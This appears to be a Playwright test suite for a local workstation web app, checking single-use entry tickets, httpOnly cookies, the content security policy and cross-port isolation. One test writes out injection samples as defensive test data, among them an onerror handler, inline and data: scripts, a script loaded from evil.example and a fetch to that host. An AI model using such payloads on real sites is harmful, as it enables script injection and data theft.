import { createServer } from 'node:http';
import { once } from 'node:events';
import { expect, test } from './workstation.ts';

test.use({ allowPageErrors: true });

const socketOutcome = (url: string): Promise<string> =>
  new Promise((resolve) => {
    const socket = new WebSocket(url);
    socket.onopen = () => resolve('open');
    socket.onerror = () => resolve('refused');
  });

test('the address in the window holds no ticket, and loading the page again keeps working', async ({
  page,
  workstation,
}) => {
  await expect(page).toHaveURL(`${workstation.origin}/`);
  await page.reload();
  await expect(page.locator('#app')).not.toBeEmpty();
  expect(await page.evaluate(socketOutcome, `ws://${new URL(workstation.origin).host}/rpc`)).toBe('open');
});

test('the used ticket is refused, in the same browser and in another', async ({ page, workstation, browser }) => {
  expect((await page.request.get(workstation.entryUrl)).status()).toBe(403);
  const other = await browser.newPage();
  expect((await other.goto(workstation.entryUrl))?.status()).toBe(403);
  expect((await other.goto(workstation.origin))?.status()).toBe(403);
});

test('no script can read the session', async ({ page }) => {
  expect(await page.evaluate(() => document.cookie)).toBe('');
  const cookies = await page.context().cookies();
  expect(cookies).toMatchObject([{ httpOnly: true, sameSite: 'Strict', path: '/' }]);
});

test('what is injected into the page does not run, and reaches nobody', async ({ page }) => {
  const ran = await page.evaluate(async () => {
    document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="window.attribute = 1">');
    const inline = document.createElement('script');
    inline.textContent = 'window.inline = 1';
    const remote = document.createElement('script');
    remote.src = 'https://evil.example/x.js';
    const data = document.createElement('script');
    data.src = 'data:text/javascript,window.data=1';
    document.body.append(inline, remote, data);
    // As a string: what Playwright itself evaluates is exempt from the policy, what runs later is not.
    Reflect.apply(setTimeout, window, ['window.evaluated = 1']);
    const refused = async (attempt: () => unknown): Promise<boolean> => {
      try {
        await attempt();
        return false;
      } catch {
        return true;
      }
    };
    const outcome = {
      fetch: await refused(() => fetch('https://evil.example/')),
      otherPort: await refused(() => fetch('http://127.0.0.1:9/', { mode: 'no-cors' })),
      worker: await refused(async () => {
        const worker = new Worker(URL.createObjectURL(new Blob(['0'])));
        await new Promise((_, reject) => (worker.onerror = reject));
      }),
    };
    await new Promise((resolve) => setTimeout(resolve, 100));
    return { ...outcome, ran: ['attribute', 'inline', 'data', 'evaluated'].filter((name) => name in window) };
  });
  expect(ran).toEqual({ fetch: true, otherPort: true, worker: true, ran: [] });
});

test('a page of another program of this computer gets nothing, though the browser shares cookies between ports', async ({
  page,
  workstation,
}) => {
  const host = new URL(workstation.origin).host;
  const foreign = createServer((_request, response) =>
    response.writeHead(200, { 'Content-Type': 'text/html' }).end('<!doctype html><title>foreign</title>'),
  ).listen(0, '127.0.0.1');
  await once(foreign, 'listening');
  const address = foreign.address();
  // In the same browser context, so that the session's cookie is there.
  await page.goto(`http://127.0.0.1:${typeof address === 'object' ? address?.port : ''}/`);
  expect(await page.title()).toBe('foreign');
  expect(await page.evaluate(socketOutcome, `ws://${host}/rpc`)).toBe('refused');
  const read = await page.evaluate(async (origin) => {
    const response = await fetch(origin, { credentials: 'include' }).catch(() => undefined);
    return response === undefined ? 'refused' : response.status;
  }, workstation.origin);
  expect(read).toBe('refused');
  const framed = await page.evaluate(async (origin) => {
    const frame = document.createElement('iframe');
    frame.src = origin;
    document.body.append(frame);
    await new Promise((resolve) => (frame.onload = resolve));
    return frame.contentDocument?.title ?? 'closed to us';
  }, workstation.origin);
  expect(framed).toBe('closed to us');
  expect(page.frames()[1]?.url()).not.toBe(`${workstation.origin}/`);
  const script = await page.evaluate(
    (origin) =>
      new Promise<string>((resolve) => {
        const element = document.createElement('script');
        element.src = `${origin}/index.html`;
        element.onload = () => resolve('loaded');
        element.onerror = () => resolve('refused');
        document.body.append(element);
      }),
    workstation.origin,
  );
  expect(script).toBe('refused');
  foreign.closeAllConnections();
  foreign.close();
});
